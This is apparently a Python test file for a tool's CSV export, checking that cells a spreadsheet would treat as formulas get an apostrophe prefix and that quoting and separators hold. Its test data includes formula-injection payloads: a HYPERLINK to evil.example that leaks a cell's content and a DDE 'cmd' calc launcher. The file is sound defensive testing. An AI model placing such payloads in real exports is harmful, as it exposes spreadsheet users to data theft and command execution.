"""Tables to take along: no spreadsheet works out what somebody typed."""

import csv
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lti_tool.domain import tables
from lti_tool.domain.tables import Table

RUN = '=HYPERLINK("https://evil.example/?"&A1;"Klik")'


def read_back(table):
    """The cells as a spreadsheet would take them."""
    text = tables.as_csv(table).decode("utf-8-sig")
    return list(csv.reader(StringIO(text), delimiter=";"))


@pytest.mark.parametrize(
    "value",
    [
        RUN, "+31 6 12345678", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "\t=1+1", "\r=1+1", "\n=1+1",
        "  =1+1", "\u00a0=1+1", "\u200b=1+1", "＝1+1", "\x00=1+1", "\u202e=1+1", "\ufeff=1+1", "\x0b=1+1",
    ],
)  # fmt: skip
def test_what_a_spreadsheet_would_work_out_begins_with_an_apostrophe(value):
    assert tables.harmless(value).startswith("'")


@pytest.mark.parametrize(
    "value", ["", "Sanne", "Anne-Marie", "10-3", "a=b", "'t Hooft", "Bakkali; Samira", "👩‍🏫"]
)
def test_other_text_stays_as_it_is(value):
    assert tables.harmless(value) == value


@given(st.text())
def test_no_text_comes_out_with_a_sign_that_begins_a_formula(value):
    came = tables.harmless(value)

    assert came[:1] not in set(tables.BEGIN_A_FORMULA)
    assert came.strip()[:1] not in set(tables.BEGIN_A_FORMULA)


@given(st.lists(st.tuples(st.text(), st.integers(), st.none()), max_size=4))
def test_no_text_ends_its_cell_or_its_row(rows):
    table = Table("Wie doet mee", ("Naam", "Aantal", "Niets"), tuple(rows))

    assert read_back(table) == [
        ["Naam", "Aantal", "Niets"],
        *([tables.harmless(name), str(number), ""] for name, number, _ in rows),
    ]


def test_a_file_begins_with_the_mark_that_excel_needs_and_parts_with_semicolons():
    content = tables.as_csv(Table("x", ("Naam", "Klaar"), (('Zoë; de "Wit"', 1),)))

    assert content.startswith(b"\xef\xbb\xbf")
    assert content.decode("utf-8-sig") == '"Naam";"Klaar"\r\n"Zoë; de ""Wit""";1\r\n'
